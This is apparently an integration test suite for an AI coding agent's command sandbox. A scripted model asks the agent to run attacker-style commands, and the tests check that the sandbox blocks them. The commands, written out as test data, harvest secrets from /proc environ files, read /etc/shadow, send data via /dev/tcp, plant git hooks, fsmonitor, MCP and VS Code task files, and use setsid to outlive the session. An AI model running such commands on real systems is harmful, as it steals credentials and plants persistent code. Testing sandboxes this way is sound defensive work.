//! The command sandbox end to end: `mcursor ask --yes` against the scripted server, the
//! model asking for what an attacker would, and the tool result (what the model and its
//! API would see) checked. Linux with Landlock and user namespaces, as in CI.
#![cfg(target_os = "linux")]

mod common;

use std::io::Read;
use std::path::Path;
use std::process::Output;
use std::time::{Duration, Instant};

use common::{fixture, stderr, stdout};
use mcursor_sandbox::processes_with_arg;
use mcursor_testkit::{Reply, ScriptedServer, chunk};

fn run_then_answer(command: &str) -> Vec<Reply> {
    let args = serde_json::json!({ "command": command, "timeout_seconds": 3 }).to_string();
    vec![
        Reply::events(&[
            chunk::tool_call_start(0, "c1", "execute_command", &args),
            chunk::finish("tool_calls"),
            chunk::done(),
        ]),
        Reply::events(&[chunk::text("done"), chunk::finish("stop"), chunk::done()]),
    ]
}

/// Runs `mcursor ask --yes` in `dir` with the model asking for `command`; returns the
/// process output and the tool result the model got back.
async fn ask_to_run(
    dir: &Path,
    command: &str,
    flags: &[&str],
    env: &[(&str, &str)],
) -> (Output, String) {
    let server = ScriptedServer::start(run_then_answer(command)).await;
    let mut process = std::process::Command::new(env!("CARGO_BIN_EXE_mcursor"));
    process
        .arg("-C")
        .arg(dir)
        .args([
            "ask",
            "--yes",
            "--base-url",
            &server.base_url,
            "--model",
            "m",
        ])
        .args(flags)
        .arg("go")
        .env_remove("MCURSOR_PRESET")
        .env_remove("MCURSOR_BASE_URL")
        .env_remove("MCURSOR_MODEL")
        .env_remove("MCURSOR_SANDBOX_SIMULATE_MISSING")
        .env("MCURSOR_API_KEY", "sk-agent-key-1234")
        .env("NO_COLOR", "1")
        .envs(env.iter().copied())
        .stdin(std::process::Stdio::null());
    let output = tokio::task::spawn_blocking(move || process.output().expect("run mcursor"))
        .await
        .expect("join");
    let requests = server.requests();
    let result = requests
        .get(1)
        .and_then(|r| r.body["messages"].as_array().cloned())
        .unwrap_or_default()
        .iter()
        .find(|m| m["role"] == "tool")
        .and_then(|m| m["content"].as_str().map(str::to_owned))
        .unwrap_or_else(|| panic!("no tool result; stderr: {}", stderr(&output)));
    (output, result)
}

#[tokio::test(flavor = "multi_thread")]
async fn the_agents_secrets_stay_out_of_commands() {
    let repo = fixture("rust-basic");
    let secrets = [
        ("AWS_SECRET_ACCESS_KEY", "aws-secret-5678"),
        ("GITHUB_PAT", "ghp_pat_9012"),
        ("DATABASE_URL", "postgres://u:pw-3456@h/db"),
        ("NPM_CONFIG__AUTH", "npm-auth-7890"),
        ("SSH_AUTH_SOCK", "/tmp/ssh-agent-sock-1111"),
    ];
    // Plain `env`, then every environment the command can find in /proc (the agent's
    // was readable as /proc/$PPID/environ).
    let (output, result) = ask_to_run(
        repo.path(),
        r"env; echo ---; for f in /proc/[0-9]*/environ; do tr '\0' '\n' < $f; done; echo; cat /proc/$PPID/environ | tr '\0' '\n'",
        &[],
        &secrets,
    )
    .await;
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(result.contains("exit code"), "{result}");
    assert!(result.contains("PATH="), "{result}");
    for value in secrets.iter().map(|(_, v)| *v).chain(["sk-agent-key-1234"]) {
        assert!(!result.contains(value), "{value} leaked: {result}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_approved_command_cannot_read_shadow_write_outside_or_send_to_a_socket() {
    let repo = fixture("rust-basic");
    let outside = tempfile::tempdir().expect("tempdir");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let command = format!(
        "echo shadow=$(cat /etc/shadow | wc -c); echo pwned > {}/pwned; \
         bash -c 'echo exfiltrated > /dev/tcp/127.0.0.1/{port}'; echo finished",
        outside.path().display()
    );
    let (_, result) = ask_to_run(repo.path(), &command, &[], &[]).await;
    assert!(result.contains("shadow=0"), "{result}");
    assert!(result.contains("finished"), "{result}");
    assert!(!outside.path().join("pwned").exists(), "{result}");
    let connected = listener.accept();
    assert!(
        connected.is_err(),
        "a connection reached the listener: {result}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn allow_network_lets_a_command_connect() {
    let repo = fixture("rust-basic");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let receiver = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().expect("accept");
        let mut text = String::new();
        let _ = stream.read_to_string(&mut text);
        text
    });
    let command = format!("bash -c 'echo hello > /dev/tcp/127.0.0.1/{port}'");
    let (_, result) = ask_to_run(repo.path(), &command, &["--allow-network"], &[]).await;
    assert!(result.contains("exit code 0"), "{result}");
    assert_eq!(receiver.join().expect("join"), "hello\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn writes_that_would_run_code_later_are_refused() {
    let repo = fixture("rust-basic");
    let root = repo.path();
    std::fs::create_dir_all(root.join(".git/hooks")).expect("mkdir");
    std::fs::write(root.join(".git/config"), "[core]\n").expect("write");
    std::fs::write(root.join(".mcp.json"), "{}\n").expect("write");
    std::fs::write(root.join(".env"), "A=1\n").expect("write");
    std::fs::create_dir_all(root.join(".vscode")).expect("mkdir");
    let (_, result) = ask_to_run(
        root,
        "printf '\\tfsmonitor = touch pwned\\n' >> .git/config; \
         echo 'touch pwned' > .git/hooks/pre-commit; \
         echo '{\"mcpServers\":{}}' > .mcp.json; echo B=2 >> .env; \
         echo '{}' > .vscode/tasks.json; echo ok > src/new.rs; echo finished",
        &[],
        &[],
    )
    .await;
    assert!(result.contains("finished"), "{result}");
    assert_eq!(
        std::fs::read_to_string(root.join(".git/config")).expect("read"),
        "[core]\n"
    );
    assert!(!root.join(".git/hooks/pre-commit").exists(), "{result}");
    assert_eq!(
        std::fs::read_to_string(root.join(".mcp.json")).expect("read"),
        "{}\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join(".env")).expect("read"),
        "A=1\n"
    );
    assert!(!root.join(".vscode/tasks.json").exists(), "{result}");
    // The workspace itself stays writable.
    assert!(root.join("src/new.rs").exists(), "{result}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_protected_path_is_reported() {
    let repo = fixture("rust-basic");
    let (_, result) = ask_to_run(
        repo.path(),
        "mkdir .vscode && echo '{}' > .vscode/tasks.json",
        &[],
        &[],
    )
    .await;
    assert!(
        result.contains("note: the command created protected path(s) .vscode"),
        "{result}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_outlives_the_command_or_holds_the_tool() {
    let repo = fixture("rust-basic");
    let started = Instant::now();
    let (_, result) = ask_to_run(
        repo.path(),
        "setsid -f sleep 300.125; setsid sleep 45.125 & sleep 0.2; echo started",
        &[],
        &[],
    )
    .await;
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "{:?}",
        started.elapsed()
    );
    assert!(result.contains("started"), "{result}");
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(processes_with_arg("300.125"), 0, "setsid -f survived");
    assert_eq!(processes_with_arg("45.125"), 0, "setsid & survived");
}

#[tokio::test(flavor = "multi_thread")]
async fn commands_are_refused_when_a_layer_cannot_be_enforced() {
    for layer in ["namespaces", "landlock", "seccomp"] {
        let repo = fixture("rust-basic");
        let (output, result) = ask_to_run(
            repo.path(),
            "touch ran",
            &[],
            &[("MCURSOR_SANDBOX_SIMULATE_MISSING", layer)],
        )
        .await;
        assert!(
            result.starts_with("error: refused: the sandbox cannot confine commands"),
            "{layer}: {result}"
        );
        assert!(result.contains(layer), "{layer}: {result}");
        assert!(result.contains("--sandbox off"), "{result}");
        assert!(
            !repo.path().join("ran").exists(),
            "{layer}: the command ran"
        );
        assert!(output.status.success(), "{}", stderr(&output));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn sandbox_off_runs_unconfined_and_says_so() {
    let repo = fixture("rust-basic");
    let (output, result) = ask_to_run(
        repo.path(),
        "echo hello",
        &["--sandbox", "off"],
        &[("MCURSOR_SANDBOX_SIMULATE_MISSING", "landlock")],
    )
    .await;
    assert!(
        result.starts_with("ran unconfined (--sandbox off); exit code 0"),
        "{result}"
    );
    assert!(
        stderr(&output).contains("the sandbox is off"),
        "{}",
        stderr(&output)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn sandbox_write_adds_a_writable_directory() {
    let repo = fixture("rust-basic");
    let cache = tempfile::tempdir().expect("tempdir");
    let command = format!("echo cached > {}/entry", cache.path().display());
    let dir = cache.path().display().to_string();
    let (_, result) = ask_to_run(repo.path(), &command, &["--sandbox-write", &dir], &[]).await;
    assert!(result.contains("exit code 0"), "{result}");
    assert!(cache.path().join("entry").exists());
}

#[test]
fn doctor_tries_every_protection_and_fails_closed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let run = |simulate: Option<&str>| {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_mcursor"));
        command
            .arg("-C")
            .arg(dir.path())
            .args(["--json", "sandbox", "doctor"]);
        match simulate {
            Some(layer) => command.env("MCURSOR_SANDBOX_SIMULATE_MISSING", layer),
            None => command.env_remove("MCURSOR_SANDBOX_SIMULATE_MISSING"),
        };
        let output = command.output().expect("run");
        let report: serde_json::Value =
            serde_json::from_str(&stdout(&output)).expect("json report");
        (output.status.code(), report)
    };
    let (code, report) = run(None);
    assert_eq!(code, Some(0), "{report:#}");
    let checks = report["checks"].as_array().expect("checks");
    assert_eq!(checks.len(), 7, "{report:#}");
    assert!(checks.iter().all(|c| c["held"] == true), "{report:#}");
    let (code, report) = run(Some("seccomp"));
    assert_eq!(code, Some(1), "{report:#}");
    assert!(
        report["refused"]
            .as_str()
            .is_some_and(|r| r.contains("seccomp is not available")),
        "{report:#}"
    );
}
